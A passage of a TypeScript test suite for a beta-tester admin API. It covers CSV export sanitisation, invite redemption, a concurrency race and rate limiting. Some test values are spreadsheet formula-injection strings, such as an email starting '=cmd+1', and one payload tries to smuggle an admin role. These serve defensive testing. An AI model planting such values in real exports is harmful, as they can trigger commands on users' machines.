      const byId = new Map(records.map((r) => [r.id!, r]));

      for (const [i, note] of hostile.entries()) {
        const row = byId.get(made[i]!.id);
        expect(row, note).toBeDefined();
        expect(row!.notes, JSON.stringify(note)).toBe(guarded(note));
        expect(row!.email).toBe(`csv-${i}@export.example`);
      }
      // Every cell in the file, not only notes, is neutralised.
      for (const record of records) {
        for (const [column, value] of Object.entries(record)) {
          expect(/^[=+\-@\t\r]/.test(value), `${column}: ${JSON.stringify(value)}`).toBe(false);
        }
      }
      const formulaRow = byId.get(formulaEmail.id)!;
      expect(formulaRow.email).toBe("'=cmd+1@export.example");
      expect(byId.get(dashEmail.id)!.email).toBe("'-x@export.example");
      expect(JSON.parse(formulaRow.flag_set!)).toEqual({ 'beta-gate': true });
      // Invite codes stay out of the export: with the email, a code is enough to join.
      expect(formulaRow).not.toHaveProperty('invite_code');
      expect(text).not.toContain(formulaEmail.invite_code);
      expect(formulaRow).toMatchObject({
        role: 'TESTER',
        is_active: 'true',
        source: 'admin',
        redeemed_at: '',
        notes: '',
        created_at: formulaEmail.created_at,
      });
    });

    it('is for admins only and takes no query parameters', async () => {
      expectError(await t.app.inject({ url: '/api/admin/users.csv' }), 401, 'UNAUTHORIZED');
      expectError(await t.app.inject({ url: '/api/admin/users.csv', headers: evaluate }), 403, 'FORBIDDEN');
      expectError(await t.app.inject({ url: '/api/admin/users.csv?all=1', headers: admin }), 400, 'VALIDATION_ERROR');
    });
  });

  describe('redeem', () => {
    it('works once for the code and its own email; used, foreign, unknown codes and inactive testers get one generic 404', async () => {
      const user = await createUser({ email: 'Redeem.Me@redeem.example', flag_set: { 'beta-gate': true } });
      const other = await createUser({ email: 'other@redeem.example' });

      const unknown = expectError(await redeem({ code: 'A'.repeat(32), email: user.email }), 404, 'NOT_FOUND');
      const foreign = expectError(await redeem({ code: user.invite_code, email: other.email }), 404, 'NOT_FOUND');
      const foreign2 = expectError(await redeem({ code: other.invite_code, email: user.email }), 404, 'NOT_FOUND');
      expect(foreign).toBe(unknown);
      expect(foreign2).toBe(unknown);
      expect((await getUser(user.id)).json().redeemed_at).toBeNull();

      // No credentials needed; the email matches case-insensitively.
      const sent = Date.now();
      const ok = await redeem({ code: user.invite_code, email: 'redeem.me@REDEEM.example' });
      const answered = Date.now();
      expect(ok.statusCode, ok.body).toBe(200);
      const body = ok.json();
      expect(body).toEqual({
        id: user.id,
        email: user.email,
        role: 'TESTER',
        joined_at: expect.any(String),
        flag_set: { 'beta-gate': true },
      });
      expect(ok.body).not.toContain(user.invite_code);
      const stored = (await getUser(user.id)).json<UserJson>();
      // Redeemed by this request: within the time it took (database and test share this machine's clock).
      expect(Date.parse(stored.redeemed_at!)).toBeGreaterThanOrEqual(sent);
      expect(Date.parse(stored.redeemed_at!)).toBeLessThanOrEqual(answered);
      expect(stored.joined_at).toBe(body.joined_at);

      const used = expectError(await redeem({ code: user.invite_code, email: user.email }), 404, 'NOT_FOUND');
      expect(used).toBe(unknown);

      // Inactive testers cannot redeem, with the same answer; reactivated they can.
      const sleeper = await createUser({ email: 'inactive@redeem.example' });
      expect((await patch(sleeper.id, { is_active: false })).statusCode).toBe(200);
      expect(expectError(await redeem({ code: sleeper.invite_code, email: sleeper.email }), 404, 'NOT_FOUND')).toBe(unknown);
      expect((await getUser(sleeper.id)).json().redeemed_at).toBeNull();
      expect((await patch(sleeper.id, { is_active: true })).statusCode).toBe(200);
      expect((await redeem({ code: sleeper.invite_code, email: sleeper.email })).statusCode).toBe(200);

      const entries = await audit(`entity_id=${user.id}&action=beta_user.redeem`);
      expect(entries).toHaveLength(1);
      expect(entries[0]!.actor).toBe(user.email);
    });

    it.each([
      ['no code', { email: 'x@redeem.example' }],
      ['no email', { code: 'abc' }],
      ['an empty code', { code: '', email: 'x@redeem.example' }],
      ['a malformed email', { code: 'abc', email: 'nope' }],
      ['a numeric code', { code: 12345, email: 'x@redeem.example' }],
      ['an unknown field', { code: 'abc', email: 'x@redeem.example', role: 'ADMIN' }],
      ['an overlong code', { code: 'c'.repeat(101), email: 'x@redeem.example' }],
    ])('refuses %s with 400', async (_name, payload) => {
      expectError(await redeem(payload), 400, 'VALIDATION_ERROR');
    });

    it('lets exactly one of 50 concurrent redeems of one code win', async () => {
      const user = await createUser({ email: 'race@redeem.example' });
      const results = await Promise.all(
        Array.from({ length: 50 }, (_, i) =>
          t.app.inject({
            method: 'POST',
            url: '/api/beta/redeem',
            payload: { code: user.invite_code, email: user.email },
            remoteAddress: `10.200.0.${i + 1}`,
          }),
        ),
      );
      const statuses = results.map((r) => r.statusCode);
      expect(statuses.filter((s) => s === 200)).toHaveLength(1);
      expect(statuses.filter((s) => s === 404)).toHaveLength(49);
      expect(await audit(`entity_id=${user.id}&action=beta_user.redeem`)).toHaveLength(1);
    });
  });

  it('audits every kind of change to testers', async () => {
    for (const action of [
      'beta_user.create',
      'beta_user.update',
      'beta_user.delete',
      'beta_user.invite',
      'beta_user.import',
      'beta_user.redeem',
    ]) {
      const entries = await audit(`action=${action}&limit=1`);
      expect(entries, action).toHaveLength(1);
      expect(entries[0]!.entity_type).toBe('beta_user');
    }
  });
});

describe('beta invite redemption rate limit', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ ADMIN_EMAILS: OWNER, PUBLIC_RATE_LIMIT_PER_MIN: '5' });
    await t.app.ready();
  });
  afterAll(() => t.close());

  const redeem = (remoteAddress: string, payload: object = { code: 'x'.repeat(32), email: 'probe@limit.example' }) =>
    t.app.inject({ method: 'POST', url: '/api/beta/redeem', payload, remoteAddress });

  it('answers 429 with Retry-After after PUBLIC_RATE_LIMIT_PER_MIN requests per client', async () => {
    const admin = { authorization: `Bearer ${await t.token('admin')}` };
    const created = await t.app.inject({
      method: 'POST',
      url: '/api/admin/users',
      headers: admin,
      payload: { email: 'valid@limit.example' },
    });
    const user = created.json<UserJson>();

    const windowOpened = Date.now();
    for (let i = 0; i < 5; i++) expect((await redeem('10.9.0.1')).statusCode).toBe(404);
    const limited = await redeem('10.9.0.1');
    const elapsed = Date.now() - windowOpened;
    const message = expectError(limited, 429, 'RATE_LIMITED');
    expect(message).toMatch(/try again/i);
    const retryAfter = Number(limited.headers['retry-after']);
    expect(Number.isInteger(retryAfter)).toBe(true);
    // The one-minute window opened with the first attempt: what is left of it, in whole seconds rounded up.
    expect(retryAfter).toBeGreaterThanOrEqual(Math.ceil((60_000 - elapsed) / 1000));
    expect(retryAfter).toBeLessThanOrEqual(60);
    // Even a valid code is refused from this client now, and nothing is redeemed.
    expect((await redeem('10.9.0.1', { code: user.invite_code, email: user.email })).statusCode).toBe(429);
    const stored = await t.app.inject({ url: `/api/admin/users/${user.id}`, headers: admin });
    expect(stored.json().redeemed_at).toBeNull();

    // Another client has its own budget.
    expect((await redeem('10.9.0.2', { code: user.invite_code, email: user.email })).statusCode).toBe(200);
    expect((await redeem('10.9.0.2')).statusCode).toBe(404);
  });
});
